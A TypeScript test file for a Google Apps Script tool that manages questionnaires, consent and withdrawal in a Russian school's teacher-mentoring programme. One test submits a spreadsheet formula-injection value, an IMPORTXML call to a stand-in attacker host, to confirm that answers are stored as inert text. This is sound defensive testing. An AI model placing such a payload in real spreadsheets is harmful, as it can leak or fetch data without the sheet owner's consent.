import { Emulator } from '../../emulator';
import { holdLockElsewhere } from '../../emulator/base/lock';
import { CONSENT_NO, CONSENT_YES } from '../../src/domain/forms/consent';
import { formDefinitions } from '../../src/domain/forms/definitions';
import { WITHDRAWN_NAME } from '../../src/domain/forms/intake';
import * as server from '../../src/server';
import { openDatabase } from '../../src/services/db/database';
import { createOrUpdateForm } from '../../src/services/forms/create';
import { rebuildFromResponses } from '../../src/services/forms/ingest';
import { importCuratorNotes } from '../../src/services/forms/import';
import { readFormRecords } from '../../src/services/forms/registry';
import { summarizePrelim } from '../../src/services/forms/summary';
import { withdrawPerson } from '../../src/services/forms/withdraw';
import { buildOverview } from '../../src/services/overview/build-overview';
import { configuredWorkbookWithServer } from './fixture';

const defs = formDefinitions();
const T = Object.fromEntries(
  Object.values(defs).flatMap((d) =>
    d.sections.flatMap((s) => s.questions.map((q) => [`${d.key}.${q.key}`, q.title])),
  ),
) as Record<string, string>;

function menteeAnswers(over: Record<string, unknown> = {}): Record<string, string | string[]> {
  return {
    [T['mentee.fullName']]: 'алексеева  анна дмитриевна',
    [T['mentee.position']]: 'Учитель',
    [T['mentee.subjects']]: 'Русский язык; Литература',
    [T['mentee.experienceYears']]: '1',
    [T['mentee.category']]: 'без категории',
    [T['mentee.youngTeacher']]: 'Да',
    [T['mentee.requests']]: ['Работа с родителями', 'Инклюзивное образование и обучающиеся с ОВЗ'],
    [T['mentee.format']]: 'очно',
    [T['mentee.consentPd']]: CONSENT_YES,
    ...over,
  } as Record<string, string | string[]>;
}

function mentorAnswers(over: Record<string, unknown> = {}): Record<string, string | string[]> {
  return {
    [T['mentor.fullName']]: 'Смирнова Ольга Викторовна',
    [T['mentor.position']]: 'Учитель',
    [T['mentor.experienceYears']]: '27',
    [T['mentor.category']]: 'высшая',
    [T['mentor.competences']]: ['Работа с родителями', 'Подготовка к аттестации'],
    [T['mentor.capacity']]: '2',
    [T['mentor.format']]: 'смешанный',
    [T['mentor.consentPd']]: CONSENT_YES,
    [T['mentor.consentMentor']]: CONSENT_YES,
    [T['mentor.consentPublish']]: CONSENT_NO,
    ...over,
  } as Record<string, string | string[]>;
}

function withForms() {
  const wb = configuredWorkbookWithServer();
  const mentee = createOrUpdateForm(wb.ports, 'mentee');
  const mentor = createOrUpdateForm(wb.ports, 'mentor');
  const db = openDatabase(wb.ports);
  return { ...wb, db, mentee: mentee.record, mentor: mentor.record, menteeResult: mentee };
}

const submit = (em: Emulator, formId: string, answers: Record<string, string | string[]>, email: string) =>
  em.submitForm(formId, answers, email);

describe('questionnaires are created from their definitions', () => {
  it('an invitation quotes a title that holds quotes as «…„…“…»', () => {
    const { ports } = withForms();
    expect(createOrUpdateForm(ports, 'prelim').invitation).toContain(
      'анкету «Мониторинг предварительных запросов: наставничество „учитель – учитель“»',
    );
  });

  it('creates the form in Russian, links it, names its response sheet and records it in Настройки', () => {
    const { emulator, ss, mentee, menteeResult, ports } = withForms();
    const form = emulator.globals.FormApp.openById(mentee.formId);
    expect(form.getTitle()).toBe('Анкета наставляемого');
    expect(form.collectsEmail()).toBe(true);
    const titles = form.getItems().map((i) => i.getTitle());
    expect(titles).toContain('Согласие на обработку персональных данных');
    expect(ss.getSheetByName('Ответы: анкета наставляемого')?.getSheetId()).toBe(mentee.sheetId);
    expect(readFormRecords(ports).mentee?.shortUrl).toMatch(/^https:\/\/forms\.gle\//);
    expect(menteeResult.invitation).toContain(mentee.shortUrl);
    const step21 = buildOverview(ports).stages[1].steps.find((st) => st.code === '2.1')!;
    expect(step21.links).toEqual([
      { label: '«Анкета наставляемого»: ссылка для педагогов', url: mentee.shortUrl },
      { label: '«Анкета наставляемого»: редактировать форму', url: mentee.editUrl },
    ]);
    // one trigger for all forms
    const triggers = emulator.state.triggers.filter((t) => t.eventType === 'ON_FORM_SUBMIT');
    expect(triggers.map((t) => t.handler)).toEqual(['onFormSubmit']);
  });

  it('updating keeps the responses and restores a question the curator deleted', () => {
    const { emulator, ports, mentee, db } = withForms();
    submit(emulator, mentee.formId, menteeAnswers(), 'a@school.example');
    const form = emulator.globals.FormApp.openById(mentee.formId);
    const expectations = form.getItems().find((i) => i.getTitle() === T['mentee.expectations'])!;
    form.deleteItem(expectations);
    const again = createOrUpdateForm(ports, 'mentee');
    expect(again.created).toBe(false);
    expect(again.record.sheetId).toBe(mentee.sheetId);
    expect(form.getItems().some((i) => i.getTitle() === T['mentee.expectations'])).toBe(true);
    expect(form.getResponses()).toHaveLength(1);
    expect(db.mentees.load().rows).toHaveLength(1);
  });
});

describe('answers fill the bases', () => {
  it('a submission lands in Наставляемые, normalised, with consent and status', () => {
    const { emulator, mentee, db } = withForms();
    submit(emulator, mentee.formId, menteeAnswers(), 'Anna.A@School.example');
    const rows = db.mentees.load().rows;
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({
      fullName: 'Алексеева Анна Дмитриевна',
      email: 'anna.a@school.example',
      subjects: 'Русский язык; Литература',
      experienceYears: 1,
      youngTeacher: true,
      requests: 'Работа с родителями; Инклюзивное образование и обучающиеся с ОВЗ',
      status: 'в базе',
    });
    expect(rows[0].consentPd).toBeInstanceOf(Date);
  });

  it('a mentor without the written mentor consent is in the base but not yet matchable', () => {
    const { emulator, mentor, db } = withForms();
    submit(
      emulator,
      mentor.formId,
      mentorAnswers({ [T['mentor.consentMentor']]: CONSENT_NO }),
      'o.smirnova@school.example',
    );
    const [row] = db.mentors.load().rows;
    expect(row.status).toBe('согласие');
    expect(row.consentMentor).toBeNull();
    expect(row.capacity).toBe(2);
    expect(row.competences).toBe('Работа с родителями; Подготовка к аттестации');
  });

  it('the same teacher answering twice with a different e-mail case updates one row, keeping the curator’s notes', () => {
    const { emulator, mentee, db } = withForms();
    submit(emulator, mentee.formId, menteeAnswers(), 'anna@school.example');
    const t = db.mentees.load();
    t.update(t.rows[0].id, { curatorNotes: 'Рекомендация аттестационной комиссии' });
    t.save();
    submit(
      emulator,
      mentee.formId,
      menteeAnswers({ [T['mentee.experienceYears']]: '2' }),
      'ANNA@School.Example',
    );
    const rows = db.mentees.load().rows;
    expect(rows).toHaveLength(1);
    expect(rows[0].experienceYears).toBe(2);
    expect(rows[0].curatorNotes).toBe('Рекомендация аттестационной комиссии');
  });

  it('a duplicate trigger event is handled once, an edited response again', () => {
    const { emulator, mentee, db } = withForms();
    const events: GoogleAppsScript.Events.SheetsOnFormSubmit[] = [];
    emulator.setRuntime((name) => (e: unknown) => {
      events.push(e as GoogleAppsScript.Events.SheetsOnFormSubmit);
      return (server as unknown as Record<string, (e: unknown) => unknown>)[name](e);
    });
    submit(emulator, mentee.formId, menteeAnswers(), 'a@school.example');
    server.onFormSubmit(events[0]); // Google delivers the same event twice
    const accepted = () =>
      db.journal.load().rows.filter((r) => /^Анкета (принята|обновлена)$/.test(String(r.action)));
    expect(db.mentees.load().rows).toHaveLength(1);
    expect(accepted()).toHaveLength(1);

    // A respondent edits the answer: Google updates the same row and sends the changed answer only.
    emulator.editResponse(mentee.formId, 'a@school.example', { [T['mentee.experienceYears']]: '2' });
    expect(accepted()).toHaveLength(2);
    expect(db.mentees.load().rows).toHaveLength(1);
    expect(db.mentees.load().rows[0].experienceYears).toBe(2);
  });

  it('an answer without consent does not enter the base, is erased and counted as refused', () => {
    const { emulator, mentee, db, ports, ss } = withForms();
    submit(
      emulator,
      mentee.formId,
      // «Нет» sends the form from its first page: a refusal types nothing but the name.
      { [T['mentee.fullName']]: 'Нет Согласия', [T['mentee.consentPd']]: CONSENT_NO },
      'no@school.example',
    );
    expect(db.mentees.load().rows).toHaveLength(0);
    const row = ss.getSheetByName('Ответы: анкета наставляемого')!.getRange(2, 1, 1, 8).getValues()[0];
    expect(row[0]).toBeInstanceOf(Date); // the timestamp stays: that an answer was refused
    expect(row.slice(1).every((v) => v === '')).toBe(true);
    expect(emulator.globals.FormApp.openById(mentee.formId).getResponses()).toHaveLength(0);
    expect(readFormRecords(ports).mentee?.refused).toBe(1);
    const step = buildOverview(ports).stages[1].steps.find((s) => s.code === '2.1')!;
    expect(step.statusText).toContain('без согласия — 1');
  });

  it('formula-like, phone-like, @-prefixed and very long answers are stored as text, unchanged', () => {
    const { emulator, mentee, db, ss } = withForms();
    const long = 'Очень подробный ответ. '.repeat(220).slice(0, 5000);
    submit(
      emulator,
      mentee.formId,
      menteeAnswers({
        [T['mentee.position']]: '=IMPORTXML("http://evil.example","//a")',
        [T['mentee.subjects']]: '+7 912 000-00-00',
        [T['mentee.fullName']]: 'Петрова @user Ивановна',
        [T['mentee.expectations']]: long,
      }),
      'x@school.example',
    );
    const [row] = db.mentees.load().rows;
    expect(row.position).toBe('=IMPORTXML("http://evil.example","//a")');
    expect(row.subjects).toBe('+7 912 000-00-00');
    expect(row.fullName).toBe('Петрова @user Ивановна');
    expect(row.expectations).toBe(long.trim());
    expect(ss.getSheetByName('Наставляемые')!.getDataRange().getFormulas().flat().filter(Boolean)).toEqual(
      [],
    );
  });

  it('keeps working when a curator renames the response sheet', () => {
    const { emulator, mentee, db, ss } = withForms();
    ss.getSheetByName('Ответы: анкета наставляемого')!.setName('Наставляемые — ответы 2022');
    submit(emulator, mentee.formId, menteeAnswers(), 'a@school.example');
    expect(db.mentees.load().rows).toHaveLength(1);
  });

  it('a submission while another execution holds the lock is not lost: rebuild picks it up', () => {
    const { emulator, mentee, db, ports } = withForms();
    // Held by an execution without a document (the daily check, a card's meeting through the web app).
    holdLockElsewhere(emulator.ctx, 'script', true);
    expect(() => submit(emulator, mentee.formId, menteeAnswers(), 'busy@school.example')).toThrow(
      'Таблица занята',
    );
    holdLockElsewhere(emulator.ctx, 'script', false);
    expect(db.mentees.load().rows).toHaveLength(0);
    const counts = rebuildFromResponses(ports);
    expect(counts.added).toBe(1);
    expect(db.mentees.load().rows[0].email).toBe('busy@school.example');
    // Rebuild is idempotent.
    expect(rebuildFromResponses(ports).added).toBe(0);
    expect(db.mentees.load().rows).toHaveLength(1);
  });

  it('costs the same number of service calls however large the base is', () => {
    const { emulator, mentee, db } = withForms();
    const cost = (email: string) => {
      emulator.calls.reset();
      submit(emulator, mentee.formId, menteeAnswers(), email);
      return emulator.calls.total();
    };
    const small = cost('first@school.example');
    db.mentees.append(
      Array.from({ length: 300 }, (_, i) => ({
        fullName: `Учитель ${i}`,
        email: `t${i}@school.example`,
        status: 'в базе',
      })),
    );
    expect(cost('second@school.example')).toBe(small);
  });
});

describe('withdrawal, enrichment and the 1.3 summary', () => {
  it('withdrawal anonymises the person, erases their answers and flags their pair', () => {
    const { emulator, mentee, mentor, db, ports, ss } = withForms();
    submit(emulator, mentee.formId, menteeAnswers(), 'anna@school.example');
    submit(emulator, mentor.formId, mentorAnswers(), 'olga@school.example');
    const menteeId = db.mentees.load().rows[0].id;
    const mentorId = db.mentors.load().rows[0].id;
    db.pairs.append([
      { mentorId, menteeIds: menteeId, kind: 'пара', status: 'утверждена', reason: 'Общие запросы' },
    ]);

    const r = withdrawPerson(ports, 'Anna@school.example');
    expect(r.people).toEqual([menteeId]);
    // The anonymised row is no longer part of the base: step 2.2 does not wait for its consent.
    const base = buildOverview(ports).stages[1].steps.find((st) => st.code === '2.2')!;
    expect(base.statusText).toBe('База наставляемых пуста');
    expect(r.responsesErased).toBe(1);
    const row = db.mentees.load().find(menteeId)!;
    expect(row.fullName).toBe(WITHDRAWN_NAME);
    expect(row.email).toBeNull();
    expect(row.status).toBe('отказ');
    expect(db.pairs.load().rows[0].reason).toMatch(/^Требует решения куратора: участник отозвал согласие/);
    const sheetText = JSON.stringify(
      ss.getSheetByName('Ответы: анкета наставляемого')!.getDataRange().getValues(),
    );
    expect(sheetText).not.toContain('anna@school.example');
    expect(sheetText).not.toContain('Алексеева');
    expect(emulator.globals.FormApp.openById(mentee.formId).getResponses()).toHaveLength(0);
    expect(JSON.stringify(db.journal.load().rows)).not.toContain('anna@school.example');
    // A rebuild does not bring the erased answer back.
    rebuildFromResponses(ports);
    expect(db.mentees.load().rows.filter((p) => p.fullName === 'Алексеева Анна Дмитриевна')).toHaveLength(0);
  });

  it('imports the curator’s notes by e-mail and they survive re-ingestion', () => {
    const { emulator, mentee, db, ports } = withForms();
    submit(emulator, mentee.formId, menteeAnswers(), 'anna@school.example');
    const r = importCuratorNotes(
      ports,
      'Эл. почта\tДоп. сведения куратора\nANNA@school.example\tАттестация: рекомендовано освоить ФОП\nnobody@school.example\tx',
    );
    expect(r).toEqual({ updated: 1, unknown: ['nobody@school.example'], invalid: 0 });
    rebuildFromResponses(ports);
    expect(db.mentees.load().rows[0].curatorNotes).toBe('Аттестация: рекомендовано освоить ФОП');
  });

  it('summarises the preliminary requests by role and direction', () => {
    const { emulator, ports } = withForms();
    const prelim = createOrUpdateForm(ports, 'prelim').record;
    const answer = (role: string, dirs: string[]) => ({
      [T['prelim.role']]: role,
      [T['prelim.directions']]: dirs,
    });
    submit(emulator, prelim.formId, answer('Наставник', ['Работа с родителями']), 'a@school.example');
    submit(
      emulator,
      prelim.formId,
      answer('Наставляемый', ['Работа с родителями', 'Подготовка к аттестации']),
      'b@school.example',
    );
    submit(emulator, prelim.formId, answer('Наставляемый', ['Подготовка к аттестации']), 'c@school.example');
    const s = summarizePrelim(ports)!;
    expect(s.answers).toBe(3);
    expect(s.byRole).toEqual({ Наставник: 1, Наставляемый: 2 });
    expect(s.byDirection).toEqual([
      ['Подготовка к аттестации', 2],
      ['Работа с родителями', 2],
    ]);
  });
});
